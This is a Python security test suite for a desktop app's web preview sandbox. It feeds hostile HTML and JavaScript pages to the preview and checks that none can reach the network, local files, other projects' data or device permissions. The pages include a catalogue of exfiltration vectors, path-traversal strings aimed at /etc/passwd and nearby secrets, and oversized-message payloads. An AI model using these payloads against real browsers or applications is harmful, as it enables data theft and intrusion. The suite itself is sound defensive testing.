"""Attacks on the preview: a hostile app page tries to reach the network, the disk and other apps.

A counting server on this machine (TCP and UDP) stands for the whole outside: if anything arrives
there, something got out. Each page tells what it could read by setting its title.
"""

from __future__ import annotations

import os
import socket
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")

from outside import Outside
from pytestqt.qtbot import QtBot

from desktop.preview.address import find_file, front_page, project_id
from desktop.preview.sandbox import OFF_AS_ROOT, ON, prepare_environment, sandbox_state
from desktop.preview.start import prepare_browser
from desktop.preview.view import PreviewView

# It must come before the QApplication, and pytest imports every test before it runs the first.
prepare_browser()

WAIT_MS = 700
"""How long a page gets for its attempts after it has loaded; they start at once."""


@pytest.fixture
def outside() -> Iterator[Outside]:
    server = Outside()
    yield server
    server.close()


@pytest.fixture
def view(qtbot: QtBot, tmp_path: Path) -> Iterator[PreviewView]:
    made = PreviewView(tmp_path / "storage")
    qtbot.addWidget(made)
    made.resize(500, 400)
    made.show()
    yield made
    with qtbot.waitSignal(made._profile.destroyed, timeout=5000):
        made.let_go()


@pytest.fixture
def attack(view: PreviewView, qtbot: QtBot, tmp_path: Path) -> Callable[[str], str]:
    """Show a page with this body; give back its title after its attempts."""

    def run(body: str, folder: Path | None = None) -> str:
        place = folder or tmp_path / "project"
        place.mkdir(exist_ok=True)
        (place / "index.html").write_text(
            f"<!doctype html><meta charset=utf-8><title>untouched</title><body>{body}", encoding="utf-8"
        )
        view.show_folder(place)
        view.wait_until_loaded()  # False where the page goes elsewhere at once: that stops its load
        qtbot.wait(WAIT_MS)
        return view.title()

    return run


WAYS_OUT = {
    "fetch": "<script>fetch('{http}/x').then(r=>r.text()).then(t=>document.title='got '+t)</script>",
    "fetch without cors": "<script>fetch('{http}/x',{{mode:'no-cors'}}).then(()=>document.title='got')</script>",
    "xhr": "<script>let x=new XMLHttpRequest();x.open('GET','{http}/x');"
    "x.onload=()=>document.title='got';x.send()</script>",
    "websocket": "<script>new WebSocket('ws://127.0.0.1:{port}/').onopen=()=>document.title='got'</script>",
    "event source": "<script>new EventSource('{http}/x').onopen=()=>document.title='got'</script>",
    "beacon": "<script>navigator.sendBeacon('{http}/x','secret')</script>",
    "image": "<img src='{http}/x.png' onload=\"document.title='got'\">",
    "css image": "<div style=\"background:url('{http}/x.png');height:9px\">a</div>",
    "stylesheet": "<link rel=stylesheet href='{http}/x.css'>",
    "font": "<style>@font-face{{font-family:a;src:url('{http}/a.woff2')}}p{{font-family:a}}</style><p>a",
    "script": "<script src='{http}/x.js'></script>",
    "module": "<script type=module>import('{http}/x.js').then(()=>document.title='got')</script>",
    "iframe": "<iframe src='{http}/x'></iframe>",
    "object": "<object data='{http}/x'></object><embed src='{http}/y'>",
    "video": "<video src='{http}/x.mp4' autoplay muted></video>",
    "form get": "<form action='{http}/x'><input name=a value=secret></form><script>document.forms[0].submit()</script>",
    "form post": "<form action='{http}/x' method=post><input name=a></form><script>document.forms[0].submit()</script>",
    "form to a frame": "<iframe name=f></iframe><form action='{http}/x' target=f></form>"
    "<script>document.forms[0].submit()</script>",
    "navigation": "<script>location='{http}/x'</script>",
    "replace": "<script>location.replace('{http}/x')</script>",
    "meta refresh": "<meta http-equiv=refresh content='0;url={http}/x'>",
    "link click": "<a id=a href='{http}/x'>a</a><script>a.click()</script>",
    "link ping": "<a id=a href='#' ping='{http}/x'>a</a><script>a.click()</script>",
    "link download": "<a id=a href='{http}/x' download=x.csv>a</a><script>a.click()</script>",
    "new window": "<script>window.open('{http}/x')</script>",
    "target blank": "<a id=a target=_blank href='{http}/x'>a</a><script>a.click()</script>",
    "prefetch": "<link rel=prefetch href='{http}/x'><link rel=preload as=image href='{http}/y'>",
    "preconnect": "<link rel=preconnect href='{http}'><link rel=dns-prefetch href='{http}'>",
    "prerender": '<script type=speculationrules>{{"prerender":[{{"urls":["{http}/x"]}}],'
    '"prefetch":[{{"urls":["{http}/y"]}}]}}</script>',
    "worker": "<script>let w=new Worker(URL.createObjectURL(new Blob([\"fetch('{http}/x')"
    ".then(()=>postMessage(1))\"])));w.onmessage=()=>document.title='got'</script>",
    "blob frame": "<script>let f=document.createElement('iframe');f.src=URL.createObjectURL(new Blob("
    "[\"<img src='{http}/x'>\"],{{type:'text/html'}}));document.body.append(f)</script>",
    "srcdoc frame": "<iframe srcdoc=\"<img src='{http}/x'><script>fetch('{http}/y')</script>\"></iframe>",
    "sandboxed frame": "<iframe sandbox=allow-scripts srcdoc=\"<script>fetch('{http}/y')</script>\"></iframe>",
    "data frame": "<iframe src=\"data:text/html,<img src='{http}/x'>\"></iframe>",
    "manifest": "<link rel=manifest href='{http}/m.json'><link rel=icon href='{http}/i.png'>",
    "webrtc": "<script>let p=new RTCPeerConnection({{iceServers:[{{urls:'stun:127.0.0.1:{port}'}},"
    "{{urls:'turn:127.0.0.1:{port}?transport=tcp',username:'a',credential:'b'}}]}});"
    "p.createDataChannel('a');p.createOffer().then(o=>p.setLocalDescription(o))</script>",
    "webtransport": "<script>new WebTransport('https://127.0.0.1:{port}/').ready"
    ".then(()=>document.title='got')</script>",
    "service worker": "<script>navigator.serviceWorker.register('{http}/sw.js')</script>",
    "svg": "<svg><image href='{http}/x.png' width=9 height=9 /><use href='{http}/x.svg#a'/></svg>",
}


@pytest.mark.parametrize("way", WAYS_OUT)
def test_nothing_gets_out(way: str, attack: Callable[[str], str], outside: Outside) -> None:
    """Whatever a page tries, no byte and no connection leaves the program."""
    http = f"http://127.0.0.1:{outside.port}"
    title = attack(WAYS_OUT[way].format(http=http, port=outside.port))
    assert outside.arrived == []
    assert title in {"untouched", "index.html"} or title.startswith("homespun://")


def test_the_counting_server_counts(outside: Outside) -> None:
    """The server above does notice a visitor: the tests that find nothing there mean something."""
    with socket.create_connection(("127.0.0.1", outside.port)) as visitor:
        visitor.sendall(b"GET /x HTTP/1.1\r\n\r\n")
        visitor.recv(10)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as visitor:
        visitor.sendto(b"a", ("127.0.0.1", outside.port))
    deadline = threading.Event()
    for _ in range(50):
        if len(outside.arrived) == 2:
            break
        deadline.wait(0.05)
    assert sorted(outside.arrived) == ["tcp GET /x HTTP/1.1", "udp"]


def test_refusals_are_written_down(attack: Callable[[str], str], view: PreviewView, outside: Outside) -> None:
    """The ledger names the address that was refused, with a reason for the person."""
    url = f"http://127.0.0.1:{outside.port}/elsewhere"
    attack(f"<a id=a href='{url}'>a</a><script>a.click()</script>")
    assert [(refusal.url, "no network" in refusal.why) for refusal in view.refusals] == [(url, True)]


@pytest.mark.parametrize("way", ["fetch", "image", "iframe", "script", "worker"])
def test_the_interceptor_alone_would_do(
    way: str,
    attack: Callable[[str], str],
    view: PreviewView,
    outside: Outside,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """With the content security policy taken away, the second wall still holds and says so."""
    monkeypatch.setattr("desktop.preview.scheme.POLICY", "default-src * 'unsafe-inline' data: blob:")
    http = f"http://127.0.0.1:{outside.port}"
    attack(WAYS_OUT[way].format(http=http, port=outside.port))
    assert outside.arrived == []
    assert any(refusal.url.startswith(http) for refusal in view.refusals)


# --- the disk ------------------------------------------------------------------------------------

READ_IT = (
    "<script>const tell=t=>{{if(String(t).includes('SECRET')||String(t).includes('root:'))document.title='read '+t}};"
    "const u='{url}';fetch(u).then(r=>r.text()).then(tell).catch(()=>0);"
    "const x=new XMLHttpRequest();x.open('GET',u);x.onload=()=>tell(x.responseText);try{{x.send()}}catch(e){{}}"
    "const f=document.createElement('iframe');f.src=u;"
    "f.onload=()=>{{try{{tell(f.contentDocument.body.textContent)}}catch(e){{}}}};document.body.append(f);"
    "const s=document.createElement('script');s.src=u;s.onload=()=>{{document.title='ran '+window.stolen}};"
    "document.body.append(s)</script>"
)


@pytest.fixture
def secrets(tmp_path: Path) -> Path:
    """Files that lie near the project, each of which would change the title if it were read or run."""
    project = tmp_path / "project"
    project.mkdir()
    (tmp_path / "secret.js").write_text("window.stolen = 'SECRET'", encoding="utf-8")
    (tmp_path / "secret.html").write_text("SECRET", encoding="utf-8")
    (project / "link.js").symlink_to(tmp_path / "secret.js")
    (project / "out").symlink_to(tmp_path, target_is_directory=True)
    (project / ".hidden.js").write_text("window.stolen = 'SECRET'", encoding="utf-8")
    os.mkfifo(project / "pipe.js")
    return project


PATHS = [
    "file:///etc/passwd",
    "{file}/secret.js",
    "../secret.js",
    "..%2fsecret.js",
    "%2e%2e/secret.js",
    "%2e%2e%2fsecret.js",
    "..\\\\secret.js",
    "..%5csecret.js",
    "%252e%252e/secret.js",
    "/../../secret.js",
    "//{file_host}/secret.js",
    "link.js",
    "out/secret.js",
    "out/secret.html",
    "pipe.js",
    ".hidden.js",
    "{file_path}/secret.js",
    "/{file_path}/secret.js",
]


@pytest.mark.parametrize("path", PATHS)
def test_nothing_outside_the_folder_is_read(path: str, attack: Callable[[str], str], secrets: Path) -> None:
    """No spelling of a path, no link and no pipe leads out of the project's folder."""
    near = secrets.parent
    url = path.format(file=near.as_uri(), file_path=str(near), file_host="etc")
    title = attack(READ_IT.format(url=url))
    assert title == "untouched"


@pytest.mark.parametrize(
    "path",
    [
        "/link.js",
        "/out/secret.js",
        "/..%2fsecret.js",
        "/a/../../secret.js",
        "/.hidden.js",
        "/pipe.js",
        "/a\0.js",
    ],
)
def test_the_file_finder_finds_nothing_outside(path: str, secrets: Path) -> None:
    """The same without a browser, so that no cleverness of Chromium hides a hole of ours."""
    assert find_file(secrets, path) is None


def test_the_file_finder_finds_the_apps_own_files(secrets: Path) -> None:
    """Own files are found, also with spaces and other scripts in their names."""
    (secrets / "pictures of bees").mkdir()
    own = secrets / "pictures of bees" / "Bienenfoto ü.png"
    own.write_bytes(b"x")
    assert find_file(secrets, "/pictures%20of%20bees/Bienenfoto%20%C3%BC.png") == own.resolve()


def test_own_scripts_and_styles_run(attack: Callable[[str], str], secrets: Path) -> None:
    """The walls leave the app itself alone: its own script runs, so the tests above mean something."""
    (secrets / "own.js").write_text("document.title = 'own script ran'", encoding="utf-8")
    assert attack("<script src='own.js'></script>") == "own script ran"


# --- other apps ----------------------------------------------------------------------------------


def test_another_project_cannot_be_read(attack: Callable[[str], str], tmp_path: Path) -> None:
    """A page gets nothing from another project's address, though that project exists and was shown."""
    other = tmp_path / "other"
    other.mkdir()
    (other / "secret.js").write_text("window.stolen = 'SECRET'", encoding="utf-8")
    attack("<p>the other app", folder=other)
    url = f"homespun://{project_id(other)}/secret.js"
    assert attack(READ_IT.format(url=url)) == "untouched"


def test_records_of_another_project_cannot_be_read(attack: Callable[[str], str], tmp_path: Path) -> None:
    """Storage belongs to one project: what one app keeps, another does not see."""
    attack(
        "<script>localStorage.setItem('a','SECRET');document.title='kept'</script>", folder=tmp_path / "other"
    )
    assert attack("<script>document.title='sees '+localStorage.getItem('a')</script>") == "sees null"


def test_navigating_to_another_project_is_refused(
    attack: Callable[[str], str], view: PreviewView, tmp_path: Path
) -> None:
    """A page cannot move the view to another app."""
    other = tmp_path / "other"
    other.mkdir()
    (other / "index.html").write_text("<title>other</title>", encoding="utf-8")
    attack(f"<script>location='{front_page(other).toString()}'</script>")
    assert view.url() == front_page(tmp_path / "project")
    assert view.title() != "other"


@pytest.mark.parametrize(
    "scheme", ["chrome://version", "view-source:homespun://x/", "devtools://a/", "qrc:/a", "mailto:a@b.c"]
)
def test_no_address_of_the_browser_itself_opens(
    scheme: str, attack: Callable[[str], str], view: PreviewView, tmp_path: Path
) -> None:
    """The browser's own pages and the system's programs are out of reach."""
    attack(f"<script>location='{scheme}'</script>")
    assert view.url() == front_page(tmp_path / "project")


# --- the records ---------------------------------------------------------------------------------

BLUEPRINT = 'app "Shed"\nentity Tool\n  name: text\npage Tools\n  table of Tool\n'
SEND = """<script>
const send = (message, settings = {}, address = "/records") => fetch(address, {method: "POST",
  headers: {"Homespun-Message": typeof message === "string" ? message : JSON.stringify(message)}, ...settings});
// A refused `fetch` never settles in Qt 6.12: silence is a refusal too.
const silence = new Promise((done) => setTimeout(done, 400, "refused"));
const asked = async (...message) => { try { return await (await send(...message)).text() } catch (problem) { return "refused" } };
(async () => { document.title = await (async () => {%s})() })();
</script>"""


def app_folder(place: Path, name: str) -> Path:
    folder = place / name
    folder.mkdir()
    (folder / "app.blueprint").write_text(BLUEPRINT, encoding="utf-8")
    return folder


def kept_in(folder: Path) -> bytes:
    """All bytes of an app's database, with the log of its last changes; b"" if there is none."""
    return b"".join(path.read_bytes() for path in sorted(folder.glob("data.sqlite*")))


PUT = 'do: "write", put: [{id: "a", entity: "Tool", made: 1, values: {name: "SECRET"}}], remove: []'


def test_a_page_keeps_records_in_its_own_folder(attack: Callable[[str], str], tmp_path: Path) -> None:
    """The way in works, so that the tests below mean something."""
    app_folder(tmp_path, "project")
    assert attack(SEND % f"await asked({{{PUT}}}); return asked({{do: 'look'}})") == '{"revision":1}'
    assert b"SECRET" in kept_in(tmp_path / "project")


def test_a_folder_without_an_app_gets_no_database(attack: Callable[[str], str], tmp_path: Path) -> None:
    assert attack(SEND % f"return asked({{{PUT}}})") == '{"problem":"none"}'
    assert not (tmp_path / "project" / "data.sqlite").exists()


def test_another_apps_records_are_out_of_reach(attack: Callable[[str], str], tmp_path: Path) -> None:
    """Neither the address of another app nor its file's name leads to what it keeps."""
    other = app_folder(tmp_path, "other")
    attack(SEND % f"return asked({{{PUT}}})", folder=other)
    app_folder(tmp_path, "project")
    address = f"homespun://{project_id(other)}/records"
    tries = [
        f'await Promise.race([silence, asked({{do: "read", entity: "Tool", after: null}}, {{}}, "{address}")])',
        'await Promise.race([silence, asked({do: "look"}, {mode: "no-cors"}, "' + address + '")])',
        'await asked({do: "read", entity: "Tool", after: null})',
    ]
    assert "SECRET" not in attack(SEND % f"return [{', '.join(tries)}].join()")
    (tmp_path / "project" / "index.html").unlink()


@pytest.mark.parametrize(
    "path",
    [
        "data.sqlite",
        "./data.sqlite",
        "data%2esqlite",
        "data.sqlite-journal",
        "data.sqlite-wal",
        "app.blueprint",
    ],
)
def test_the_database_is_no_file_of_the_page(path: str, attack: Callable[[str], str], tmp_path: Path) -> None:
    """Records are read by messages, which are checked, and not as a file that may be damaged."""
    app_folder(tmp_path, "project")
    script = f"await asked({{{PUT}}}); return Promise.race([silence, fetch('{path}').then(r => r.text(), () => 'refused')])"
    assert attack(SEND % script) == "refused"


STRANGERS = {
    "a sandboxed frame": "<iframe sandbox=allow-scripts srcdoc='{script}'></iframe>",
    "a data frame": '<iframe src="data:text/html,{script}"></iframe>',
}


@pytest.mark.parametrize("stranger", STRANGERS)
def test_a_frame_of_another_origin_writes_nothing(
    stranger: str, attack: Callable[[str], str], tmp_path: Path
) -> None:
    folder = app_folder(tmp_path, "project")
    address = f"homespun://{project_id(folder)}/records"
    script = (SEND % f"return asked({{{PUT}}}, {{}}, `{address}`)").replace('"', "`").replace("\n", " ")
    attack(STRANGERS[stranger].format(script=script.replace("`", "&quot;")))
    assert b"SECRET" not in kept_in(folder)


@pytest.mark.parametrize("method", ["PUT", "DELETE", "PATCH", "OPTIONS"])
def test_only_messages_are_taken(method: str, attack: Callable[[str], str], tmp_path: Path) -> None:
    app_folder(tmp_path, "project")
    assert (
        attack(SEND % f"return Promise.race([silence, asked({{do: 'look'}}, {{method: '{method}'}})])")
        == "refused"
    )


def test_a_form_and_a_link_are_no_messages(attack: Callable[[str], str], tmp_path: Path) -> None:
    """What a page can send without `fetch` has no message in it."""
    folder = app_folder(tmp_path, "project")
    attack(
        "<form action='/records' method=post><input name=a value=b></form><script>document.forms[0].submit()</script>"
    )
    assert b"SECRET" not in kept_in(folder)


BODIES = """
const part = (size) => new Blob(["y".repeat(size)]), form = new FormData();
for (let at = 0; at < 5; at++) { form.append("a", part(1)); form.append("b", "x".repeat(9e6)); }
const told = [];
for (const body of [form, "x".repeat(9e6), part(9e6)]) told.push(await asked({do: "look"}, {body}));
return told.join();
"""


def test_no_body_harms_the_program(
    attack: Callable[[str], str], view: PreviewView, qtbot: QtBot, tmp_path: Path
) -> None:
    """Bodies are never read: Qt 6.12 writes past the reader's memory for a form of several parts."""
    app_folder(tmp_path, "project")
    attack(SEND % BODIES)
    qtbot.waitUntil(lambda: view.title() == ",".join(['{"revision":0}'] * 3), timeout=10_000)


def test_messages_of_any_size_leave_the_program_alive(
    attack: Callable[[str], str], view: PreviewView, qtbot: QtBot, tmp_path: Path
) -> None:
    """Too much, too deep, not even JSON: all is refused, and the next honest message is answered."""
    app_folder(tmp_path, "project")
    script = """const told = [];
    for (const words of ["x".repeat(70e6), "[".repeat(1e6), "9".repeat(1e5), '{"do":"open"', ""]) told.push(await asked(words));
    told.push(await asked({do: "look"}));
    return told.join();"""
    attack(SEND % script)
    expected = ",".join(['{"problem":"message"}'] * 5 + ['{"revision":0}'])
    qtbot.waitUntil(lambda: view.title() == expected, timeout=20_000)


@pytest.mark.parametrize("target", ["nothing.sqlite", "other/data.sqlite"])
def test_a_database_that_is_a_link_is_not_opened(
    target: str, attack: Callable[[str], str], tmp_path: Path
) -> None:
    """A folder from a stranger cannot have the app write elsewhere."""
    other = app_folder(tmp_path, "other")
    attack(SEND % f"return asked({{{PUT}}})", folder=other)
    before = sorted(tmp_path.rglob("*.sqlite"))
    project = app_folder(tmp_path, "project")
    (project / "data.sqlite").symlink_to(tmp_path / target)
    assert attack(SEND % f"return asked({{{PUT}}})") == '{"problem":"place"}'
    assert sorted(tmp_path.rglob("*.sqlite")) == sorted([*before, project / "data.sqlite"])


# --- permissions ---------------------------------------------------------------------------------

ASKS = {
    "place": "navigator.geolocation.getCurrentPosition(()=>document.title='got',()=>document.title='refused')",
    "camera": "navigator.mediaDevices.getUserMedia({video:true,audio:true})"
    ".then(()=>document.title='got',()=>document.title='refused')",
    "notifications": "Notification.requestPermission().then(s=>document.title=s=='granted'?'got':'refused')",
    "clipboard": "navigator.clipboard.readText().then(()=>document.title='got',()=>document.title='refused')",
    "screen": "navigator.mediaDevices.getDisplayMedia().then(()=>document.title='got',()=>document.title='refused')",
}


@pytest.mark.parametrize("wish", ASKS)
def test_permissions_are_refused(wish: str, attack: Callable[[str], str]) -> None:
    """Camera, place, notifications, clipboard and screen are refused at once, without a question."""
    assert attack(f"<script>{ASKS[wish]}</script>") == "refused"


# --- the browser process -------------------------------------------------------------------------


def test_the_sandbox_is_off_for_root_only() -> None:
    """Chromium's sandbox is switched off exactly where the process is root."""
    environment = {
        "QTWEBENGINE_DISABLE_SANDBOX": "1",
        "QTWEBENGINE_CHROMIUM_FLAGS": "--no-sandbox --disable-gpu",
    }
    prepare_environment(environment)
    root = os.geteuid() == 0
    assert sandbox_state() == (OFF_AS_ROOT if root else ON)
    assert ("QTWEBENGINE_DISABLE_SANDBOX" in environment) is root
    assert "--no-sandbox" not in environment["QTWEBENGINE_CHROMIUM_FLAGS"]
    assert environment["QTWEBENGINE_CHROMIUM_FLAGS"].startswith("--disable-gpu ")


def test_remote_debugging_is_taken_out() -> None:
    """No environment variable makes the preview open a port."""
    environment = {
        "QTWEBENGINE_REMOTE_DEBUGGING": "9222",
        "QTWEBENGINE_CHROMIUM_FLAGS": "--remote-debugging-port=9222",
    }
    prepare_environment(environment)
    assert "QTWEBENGINE_REMOTE_DEBUGGING" not in environment
    assert "remote-debugging" not in environment["QTWEBENGINE_CHROMIUM_FLAGS"]
